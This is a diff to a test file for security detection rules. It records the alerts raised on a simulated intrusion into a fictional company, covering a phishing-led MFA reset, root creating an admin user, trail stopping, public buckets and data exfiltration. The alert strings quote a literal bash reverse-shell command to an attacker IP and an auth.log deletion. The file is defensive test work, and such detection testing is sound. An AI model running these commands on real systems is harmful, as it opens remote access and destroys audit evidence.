@@ -23,8 +23,10 @@ beforeAll(async () => {
 });
 
 describe('the starter configuration', () => {
-  test('loads without a finding, and so do rules and matchers', () => {
-    expect(starter.findings).toEqual([]);
+  test('loads with nothing to say but that the account has to be filled in before a deployment', () => {
+    const found = starter.findings.map(({ level, path }) => `${level} ${path}`);
+
+    expect(found).toEqual(['build account.aws_account_id', 'build account.prefix']);
   });
 
   test('offers every log type through a source of its own and through the one for samples', () => {
@@ -123,7 +125,7 @@ describe('the samples', () => {
       'syslog:rfc3164': 140,
       'vpcflow:header': 1,
       'vpcflow:no_data': 14,
-      'vpcflow:v2': 1004,
+      'vpcflow:v2': 1003,
       quarantined: 6,
     });
   });
@@ -142,7 +144,39 @@ describe('the samples', () => {
         return `${time} ${severity} ${ruleName}: ${title}`;
       });
 
-    expect(told).toMatchInlineSnapshot();
+    expect(told).toMatchInlineSnapshot(`
+      [
+        "09:31 info ssh_login_activity: mei signed in to bastion-01 from 198.51.100.24",
+        "10:51 high okta_phishing_attempt_declined: mei.lin@northwind.example was led to a phishing site; FastPass declined",
+        "11:03 low okta_push_denied_by_user: dana.reyes@northwind.example denied a push for a sign-in from 203.0.113.91",
+        "11:09 high okta_mfa_factors_reset: All MFA factors of dana.reyes@northwind.example reset by omar.haddad@northwind.example from 198.51.100.31",
+        "11:12 medium okta_sign_in_through_anonymizer: dana.reyes@northwind.example signed in through a proxy of example hosting (203.0.113.91)",
+        "11:24 low aws_secrets_read_in_batches: dana.reyes@northwind.example as PlatformAdmin asked for secrets in batches from 203.0.113.91",
+        "11:42 critical cloudtrail_root_account_usage: Root signed in to 111122223333 from 203.0.113.66",
+        "11:43 low aws_iam_user_created: IAM user backup-svc created in 111122223333 by root from 203.0.113.66",
+        "11:43 high cloudtrail_root_account_usage: Root called CreateUser in 111122223333 from 203.0.113.66",
+        "11:43 high aws_iam_admin_policy_attached: backup-svc now has AdministratorAccess, given by root",
+        "11:43 high cloudtrail_root_account_usage: Root called AttachUserPolicy in 111122223333 from 203.0.113.66",
+        "11:43 medium aws_iam_access_key_for_another_user: root made an access key for backup-svc from 203.0.113.66",
+        "11:43 high cloudtrail_root_account_usage: Root called CreateAccessKey in 111122223333 from 203.0.113.66",
+        "11:44 high cloudtrail_critical_api_calls: backup-svc stopped trail org-trail",
+        "11:49 high aws_security_group_open_to_world: backup-svc opened port 22 of sg-0a52b7c9d1e3f4680 to the Internet",
+        "11:52 high cloudtrail_critical_api_calls: backup-svc allowed public access to bucket northwind-customer-exports",
+        "11:52 high cloudtrail_public_resources: backup-svc made s3 northwind-customer-exports public",
+        "11:54 low aws_ssm_shell_command_sent: backup-svc sent AWS-RunShellScript from 203.0.113.66",
+        "11:54 medium osquery_authorized_key_added: SSH key added to /home/ubuntu/.ssh/authorized_keys on web-03",
+        "11:55 medium vpcflow_admin_port_from_internet: 203.0.113.66 reached port 22 of 10.20.3.7",
+        "11:55 info ssh_login_activity: ubuntu signed in to web-03 from 203.0.113.66",
+        "11:56 medium osquery_shell_history_cleared: Shell history cleared on web-03 by 1000",
+        "11:56 critical osquery_reverse_shell: Reverse shell on web-03: bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
+        "11:56 medium vpcflow_outbound_to_shell_port: 10.20.3.7 connected to 203.0.113.66 port 4444",
+        "12:10 high vpcflow_large_outbound_transfer: 10.20.3.7 sent 2234 MB to 203.0.113.66",
+        "12:22 medium github_deploy_key_added: dana-reyes added deploy key "backup" to northwind/infra",
+        "12:26 high github_repository_made_public: dana-reyes made repository northwind/storefront public",
+        "12:40 high linux_log_tampering: ubuntu on web-03: /usr/bin/rm -f /var/log/auth.log",
+        "12:55 high okta_suspicious_activity_reported: dana.reyes@northwind.example reports activity that was not theirs",
+      ]
+    `);
     expect(new Set(alerts.map(({ severity }) => severity))).toEqual(new Set(severities));
   });
 });
